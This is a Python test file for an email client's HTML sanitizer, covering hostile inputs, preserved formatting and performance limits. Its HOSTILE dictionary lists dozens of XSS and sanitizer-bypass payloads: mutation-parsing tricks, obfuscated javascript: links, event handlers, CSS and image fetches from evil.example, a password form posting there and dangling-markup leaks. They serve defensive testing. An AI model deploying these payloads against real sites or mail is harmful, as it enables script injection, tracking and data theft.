"""Customers' HTML made safe: nothing but plain tags, links and words ever comes out."""

from __future__ import annotations

import pytest

from maildesk.mail.html.sanitizing import safe_html
from maildesk.mail.html.text import Allowance
from tests.cost import at_most
from tests.unit.mail.html.safe_grammar import check


def safe(source: str) -> str:
    html, cut = safe_html(source)
    assert not cut
    return html


REL = ' rel="noopener noreferrer nofollow"'

# --- hostile --------------------------------------------------------------------------------------

HOSTILE = {
    # Tags that a parser reads one way and its reader the other way (mutation).
    "math-mglyph-style":
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=bad()&gt;'>",
    "math-annotation":
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=bad()></style>"
        "</annotation-xml></math>",
    "svg-style-title": "<svg></p><style><a title='</style><img src=x onerror=bad()>'>",
    "svg-desc-style": "<svg><desc><style>&lt;/style>&lt;img src=x onerror=bad()></style></desc></svg>",
    "svg-foreign-object":
        "<svg><foreignObject><iframe srcdoc='&lt;script&gt;bad()&lt;/script&gt;'></iframe>"
        "</foreignObject></svg>",
    "form-in-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=bad()>",
    "table-foster":
        "<table><script>bad()</script><td><style><!--</td></style><img src=x onerror=bad()>-->"
        "</table>",
    "noscript-attribute": "<noscript><p title='</noscript><img src=x onerror=bad()>'>",
    "noscript-comment": "<noscript><!--</noscript><img src=x onerror=bad()>--></noscript>",
    "template": "<template><img src=x onerror=bad()><script>bad()</script></template>",
    "select-keygen": "<select><keygen><style></select><img src=x onerror=bad()>",
    "textarea-ends": "<textarea></textarea ><img src=x onerror=bad()></textarea>",
    "title-in-title": "<title><a title='</title><img src=x onerror=bad()>'>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=bad()>'></xmp>",
    "noembed-noframes": "<noembed><noframes></noembed><img src=x onerror=bad()></noframes>",
    "plaintext": "<plaintext><img src=x onerror=bad()>",
    "comment-dash": "<!--><img src=x onerror=bad()>-->",
    "comment-bang": "<!-- --!><img src=x onerror=bad()> -->",
    "comment-nested": "<!--<!--><img src=x onerror=bad()>-->",
    "conditional-comment":
        "<!--[if mso]><img src='http://evil.example/'><![endif]--><![if !mso]><img src=x>"
        "<![endif]>",
    "cdata": "<svg><![CDATA[><img src=x onerror=bad()>]]></svg><![CDATA[<img src=x onerror=bad()>]]>",
    "processing-instruction": "<?xml version='1.0'?><?php bad() ?><img src=x>",
    # Drawings that run or move.
    "svg-onload": "<svg onload=bad()><script>bad()</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:bad() /><text>x</text></a></svg>",
    "svg-set": "<svg><set attributeName=onmouseover to=bad()><use href='data:image/svg+xml,bad#x'/></svg>",
    "svg-image":
        "<svg><image xlink:href='http://evil.example/x'/><feImage href='http://evil.example/y'/>"
        "</svg>",
    "svg-link": "<svg><a xlink:href='javascript:bad()'><circle r=9></circle></a></svg>",
    "math-link": "<math href='javascript:bad()' xlink:href='javascript:bad()'>x</math>",
    # Styles, whatever their spelling.
    "style-url": "<p style='background:u\\72 l(http://evil.example/)'>x</p>",
    "style-import": "<style>@import 'http://evil.example/x.css'; p{background:url(//evil.example)}</style>x",
    "style-expression": "<p style='width:expre/**/ssion(bad())'>x</p>",
    "style-unclosed": "x<style>p{background:url(http://evil.example)}",
    "style-entity": "<p style='background&#58;url&#40;http://evil.example&#41;'>x</p>",
    "style-in-svg": "<svg><style>*{background:url(http://evil.example)}</style></svg>",
    "font-face": "<style>@font-face{font-family:x;src:url(http://evil.example/x)}</style>x",
    "class-and-id": "<p class=admin id=top name=cookie>x</p>",
    "legacy-background": "<body background='http://evil.example/x'><table background=//evil.example/y><td>x",
    # What is fetched by itself.
    "image": "<img src='http://evil.example/x.gif' srcset='//evil.example/2x 2x' lowsrc=http://evil.example>",
    "image-cid": "<img src='cid:logo@client.example'><a href='cid:logo@client.example'>x</a>",
    "image-data": "<img src='data:image/svg+xml;base64,PHN2Zz4='><a href='data:text/html,bad'>x</a>",
    "picture": "<picture><source srcset='http://evil.example/'><img src=x></picture>",
    "media":
        "<video poster=http://evil.example/><source src=x></video><audio src=http://evil.example/ "
        "autoplay></audio>",
    "object":
        "<object data=http://evil.example/></object><embed src=http://evil.example/><applet code=x>"
        "</applet>",
    "frames": "<iframe src='http://evil.example/'></iframe><frameset><frame src=javascript:bad()></frameset>",
    "link-stylesheet":
        "<link rel=stylesheet href='http://evil.example/x.css'><link rel=prefetch "
        "href=//evil.example>",
    "dns-prefetch":
        "<link rel='dns-prefetch' href='//evil.example'><meta http-equiv='x-dns-prefetch-control' "
        "content=on>",
    "meta-refresh":
        "<meta http-equiv=refresh content='0;url=http://evil.example/'><META HTTP-EQUIV='Set-Cookie' "
        "content=x>",
    "base": "<base href='http://evil.example/' target=_top><a href='/x'>x</a>",
    "ping": "<a href='https://client.example/' ping='http://evil.example/' target=_top download>x</a>",
    "input-image": "<input type=image src=http://evil.example/ onfocus=bad() autofocus>",
    "form":
        "<form action='http://evil.example/'><input name=password><button formaction=javascript:bad()>"
        "Go</button></form>",
    "isindex": "<isindex action=javascript:bad() type=image>",
    "bgsound": "<bgsound src=http://evil.example/><layer src=http://evil.example/></layer>",
    # Addresses.
    "javascript": "<a href='javascript:bad()'>x</a>",
    "javascript-entities":
        "<a href='&#106;&#x61;vascript&colon;bad()'>x</a><a href='java&Tab;script&NewLine;:bad()'>"
        "y</a>",
    "javascript-entities-no-semicolon": "<a href='&#0000106&#0000097&#0000118ascript:bad()'>x</a>",
    "javascript-white-space":
        "<a href='\x01 \tjava\n\rscript:bad()'>x</a><a href=' \u2028javascript:bad()'>"
        "y</a>",
    "javascript-null": "<a href='java\0script:bad()'>x</a><scr\0ipt>bad()</scr\0ipt>",
    "javascript-slashes": "<a href='javascript://client.example/%0abad()'>x</a>",
    "vbscript": "<a href='vbscript:bad()'>x</a><a href='VBSCRIPT:bad()'>y</a>",
    "file-and-others":
        "<a href='file:///etc/passwd'>x</a><a href='ftp://evil.example'>y</a><a href='tel:1'>z</a><a "
        "href='ms-word:x'>w</a>",
    "view-source": "<a href='view-source:javascript:bad()'>x</a><a href='feed:javascript:bad()'>y</a>",
    "scheme-relative":
        "<a href='//evil.example/'>x</a><a href='\\\\evil.example\\x'>y</a><a href='/x'>z</a><a "
        "href='?x'>w</a><a href='#x'>v</a>",
    "http-without-host":
        "<a href='http:'>x</a><a href='https:evil.example'>y</a><a href='http:///evil.example'>"
        "z</a>",
    "http-broken-host":
        "<a href='http://[::'>x</a><a href='http://%00/'>y</a><a href='http://a b/'>z</a><a "
        "href='http://:99999/'>w</a>",
    "mailto-fields": "<a href='mailto:ana@client.example?bcc=evil@evil.example&attach=/etc/passwd'>x</a>",
    "quotes-in-address": "<a href='https://client.example/\"onmouseover=\"bad()'>x</a>",
    "tags-in-address": "<a href='https://client.example/<script>bad()</script>'>x</a>",
    "nested-links": "<a href='https://client.example/1'>x<a href='javascript:bad()'>y</a>z</a>",
    # Attributes that break out of their tags.
    "handlers": "<p onclick=bad() onmouseover='bad()' ONLOAD=\"bad()\">x</p><b/onclick=bad()>y</b>",
    "slash-attributes": "<img/src=x/onerror=bad()><svg/onload=bad()><a/href='javascript:bad()'/x>x</a>",
    "unclosed-quote": "<p title=\"><img src=x onerror=bad()>",
    "unclosed-tag": "<img src=x onerror=bad() <p>x",
    "doubled-tag": "<<script>script>bad()<</script>/script>",
    "tag-in-tag": "<scr<script>ipt>bad()</scr</script>ipt>",
    "backtick": "<img src=`x` onerror=`bad()`><a href=`javascript:bad()`>x</a>",
    "upper-case": "<SCRIPT SRC=//evil.example></SCRIPT><IMG SRC=JaVaScRiPt:bad()>",
    "script-attributes": "<script type='text/html' src=x>bad()</script x=y ><p>x</p>",
    "script-unclosed": "<p>x</p><script>bad()",
    "script-slash": "<script/x>bad()</script/><script\n>bad()</script\n>",
    "full-width": "＜script＞bad()＜/script＞<ſcript>bad()</ſcript>",
    "utf-7": "+ADw-script+AD4-bad()+ADw-/script+AD4-",
    "entities-as-text": "&lt;script&gt;bad()&lt;/script&gt;&#60;img src=x onerror=bad()&#62;",
    "double-escaped": "&amp;lt;script&amp;gt;bad()&amp;lt;/script&amp;gt;",
    "long-entity": "&#000000000000000000000000060;script&#99999999999999999999;&#xD800;&#0;",
    "controls": "<p>a\x00b\x08c\x1b[31md\x7fe\x9bf\ud800g\ufffe</p>",
    "vertical-tab": "<img\x0bsrc=x\x0bonerror=bad()><img\x0csrc=x\x0conerror=bad()>",
    "end-tags-only": "</p></b></a></ul></li></pre></script></svg></body></html>",
    "crossed": "<b><i><a href=https://client.example/><p></b><li></i><ul></a><pre></p></blockquote>",
    "dangling": "<img src='http://evil.example/?<p>secret</p>",
    "is-and-slot": "<p is=x-y slot=z part=w exportparts=v itemprop=u>x</p><x-y><slot></slot></x-y>",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_becomes_plain_tags_and_words(name: str) -> None:
    html = safe(HOSTILE[name])
    check(html)
    assert safe(html) == html


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("<b>", "</b>"),
        ("<table><tr><td>", "</table>"),
        ("<svg>", "</svg>"),
        ("<pre>\n", ""),
        ("<a href='", "'>"),
    ],
    ids=["bold", "table", "svg", "pre", "attribute"],
)
def test_hostile_html_is_as_harmless_inside_other_tags(name: str, before: str, after: str) -> None:
    html = safe(before + HOSTILE[name] + after)
    check(html)
    assert safe(html) == html


# --- kept -----------------------------------------------------------------------------------------

KEPT = {
    "paragraphs": ("<p>One</p>\n<p class=x>Two</p>", "<p>One</p><p>Two</p>"),
    "lines": ("<div>One</div><div>Two<br>Three</div>", "One<br>Two<br>Three"),
    "empty-line": ("<div>One</div><div><br></div><div>Two</div>", "One<br><br>Two"),
    "emphasis": ("<strong>a</strong> <em>b</em> <tt>c</tt>", "<b>a</b> <i>b</i> <code>c</code>"),
    "bold-over-paragraphs": ("<b><p>a</p><p>b</p></b>", "<p><b>a</b></p><p><b>b</b></p>"),
    "heading": ("<h1>Title</h1>text", "<p><b>Title</b></p>text"),
    "list": ("<ul><li>a<li>b<ol><li>c</ol></ul>", "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>"),
    "table": ("<table><tr><td>a<td>b<tr><td>c<td>d</table>", "a b<br>c d"),
    "quote": ("<blockquote type=cite>a</blockquote>b", "<blockquote>a</blockquote>b"),
    "pre": ("<pre>\n  a\n    b\n</pre>", "<pre>  a\n    b\n</pre>"),
    "white-space": ("  a \n b<span> c </span> <b> d</b>", "a b c <b>d</b>"),
    "no-break-space": ("<p>&nbsp;</p>a\xa0b", "<p>&nbsp;</p>a&nbsp;b"),
    "entities": ("caf&eacute; &lt;x&gt; &amp;amp; &euro; AT&T", "café &lt;x&gt; &amp;amp; € AT&amp;T"),
    "alternative-text": ("<img src=x alt='Acme <logo>'>", "[Acme &lt;logo&gt;]"),
    "link": ("<a href='https://a.example/?x=1&copy=2&amp;y=3'>a</a>",
             f'<a href="https://a.example/?x=1&amp;copy=2&amp;y=3"{REL}>a</a>'),
    "link-upper-case": ("<A HREF=HTTPS://A.example/>a</A>", f'<a href="HTTPS://A.example/"{REL}>a</a>'),
    "link-spaces": ("<a href=' https://a.example/a b\n'>a</a>", f'<a href="https://a.example/a%20b"{REL}>a</a>'),
    "link-other-script": ("<a href='https://a.example/ü'>a</a>", f'<a href="https://a.example/ü"{REL}>a</a>'),
    "link-around-blocks": ("<a href=http://a.example/><div>a</div><p>b</a></p>",
                           f'<a href="http://a.example/"{REL}>a</a><p><a href="http://a.example/"{REL}>b</a></p>'),
    "mailto": ("<a href='mailto:a@b.example?subject=x'>a</a>", f'<a href="mailto:a@b.example"{REL}>a</a>'),
    "dead-link": ("<a href='http://[x'>words</a>", "words"),
    "anchor": ("<a name=top>words</a>", "words"),
    "noscript": ("<noscript>words</noscript>", "words"),
    "hidden": ("<p style='display:none'>words</p>", "<p>words</p>"),
    "less-than": ("a < b <3 c", "a &lt; b &lt;3 c"),
    "scripts-go": ("a<script>b</script>c<style>d</style>e<!-- f -->g", "aceg"),
    "right-to-left": ("<p dir=rtl>שלום \u200fעולם</p>", "<p>שלום \u200fעולם</p>"),
    "nothing": ("", ""),
}  # fmt: skip


@pytest.mark.parametrize(("source", "html"), KEPT.values(), ids=KEPT)
def test_what_a_person_wrote_stays(source: str, html: str) -> None:
    check(html)
    assert safe(source) == html


def test_quotes_deeper_than_any_thread_lose_their_tags_and_keep_their_words() -> None:
    html = safe("<blockquote>x" * 500 + "</blockquote>" * 460 + "y" + "</blockquote>" * 40 + "z")
    check(html)
    assert html.count("x") == 500
    assert html.endswith("y</blockquote>" + "</blockquote>" * 39 + "z")


# --- bounded --------------------------------------------------------------------------------------

SIZE = 250_000
COSTLY = {
    "divs": "<div>", "quotes": "<blockquote>", "lists": "<ul>", "items": "<ul><li>", "bold": "<b>",
    "bold-paragraphs": "<b><p>", "crossed": "<b></p>", "links": "<a href=https://a.example/>",
    "cells": "<td>",
    "drawings": "<svg><p>", "tables": "<table>x", "templates": "<template>", "ends": "</blockquote>",
    "words-in-bold": "x<b>y</b>", "open-tag": "<", "ampersands": "&", "references": "&amp;x", "spaces": " ",
    "no-break-spaces": "\xa0", "quotes-open": "<a b='", "comments": "<!--", "attributes": "<a b=c c=d>",
    "new-lines": "<pre>\n", "tags-in-pre": "<pre>x\n<br>", "controls": "\x1b[", "scripts": "<script>",
}  # fmt: skip


@pytest.mark.parametrize("name", COSTLY)
def test_a_quarter_megabyte_of_anything_costs_little(name: str) -> None:
    source = COSTLY[name] * (SIZE // len(COSTLY[name]))
    with at_most(200):
        safe_html(source)
    check(safe_html(source[:20_000])[0])


def test_a_long_address_is_not_written_more_often_than_there_is_room() -> None:
    html, cut = safe_html(f"<a href='http://a.example/{'y' * 3000}'>" + "<p>x" * 100_000, limit=100_000)
    assert cut
    assert len(html) < 110_000
    check(html)


def test_long_text_without_a_tag_keeps_its_words() -> None:
    words = "a & b\xa0c " * 10_000
    html = safe(words)
    check(html)
    assert html.replace("<br>", " ").replace("&amp;", "&").replace("&nbsp;", "\xa0") == words.strip()
    assert safe(html) == html


def test_what_is_cut_is_said_to_be_and_stays_whole() -> None:
    html, cut = safe_html("<ul><li><b>words</b> " * 1000, limit=1000)
    assert cut
    check(html)


def test_many_bodies_of_one_mail_share_one_allowance() -> None:
    allowance = Allowance(100)
    assert safe_html("<b>x</b>" * 30, allowance=allowance)[1] is False
    assert safe_html("<b>x</b>" * 30, allowance=allowance)[1] is True
